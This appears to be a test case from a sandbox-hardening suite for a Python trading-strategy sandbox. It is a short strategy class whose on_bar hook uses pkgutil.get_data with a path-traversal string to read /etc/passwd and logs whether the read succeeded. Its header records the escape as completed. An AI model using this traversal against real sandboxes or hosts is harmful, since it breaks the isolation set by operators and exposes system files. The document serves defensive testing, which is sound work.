# id: F26
# family: files
# goal: read a file of the machine as a package's data
# finding: PY302
# outcome: COMPLETED
# observed_by: none
# control: got-in

from glovebox import Strategy


def attack(ctx, bar):
    import json
    import pkgutil

    return pkgutil.get_data("json", "../../../../../../../../../../../etc/passwd")[:20]


class Attack(Strategy):
    def on_bar(self, ctx, bar):
        try:
            got = attack(ctx, bar)
        except Exception as error:
            ctx.log("REFUSED " + type(error).__name__)
            return
        if got:
            ctx.log("GOT-IN " + str(got))
